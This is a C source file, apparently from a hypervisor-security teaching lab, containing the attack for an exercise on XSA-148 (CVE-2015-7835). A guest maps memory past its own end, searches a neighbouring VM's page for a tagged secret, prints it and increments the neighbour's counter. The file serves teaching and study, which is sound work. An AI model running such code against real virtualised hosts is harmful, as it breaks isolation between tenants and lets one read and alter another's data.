/*
 * xsa-148.c - the attack of exercise 10.5
 *
 * XSA-148 (CVE-2015-7835): a large page is mapped for a guest, and nobody asks whether all of it is
 * the guest's.  The neighbour (neighbour.c) keeps its secret and its counter in one page.
 */
#include "frame.h"

#define PAGE 4096u
#define TAG "SECRET= "

/* What attack() found: eight characters; a dot for one that cannot be printed. */
static inline void say_secret(const volatile char *secret)
{
	say("xsa-148: the secret is ");
	for (unsigned i = 0; i < 8; i++)
		outb(FRAME_COM1, secret[i] >= ' ' && secret[i] <= '~' ? (u8)secret[i] : '.');
	say("\n");
}

static void attack(void)
{
	/* lab: 10.5 */
	u32 end = memory_end();

	/* The first touch of the last 2 MiB maps them, and what lies behind. */
	*(volatile u32 *)(end - PAGE) = 1;
	for (u32 at = end; at < end + MiB(2); at += PAGE) {
		volatile char *page = (volatile char *)at;
		bool same = true;

		for (unsigned i = 0; i < 8 && same; i++)
			same = page[i] == TAG[i];
		if (!same)
			continue;
		say_secret(page + 8);
		*(volatile u32 *)(page + 16) += 1000;
		return;
	}
	say("xsa-148: nothing there\n");
	/* lab: end */
}

void guest(void)
{
	wait_for_key();
	say("xsa-148: now\n");
	attack();
	say("xsa-148: I am still here\n");
}
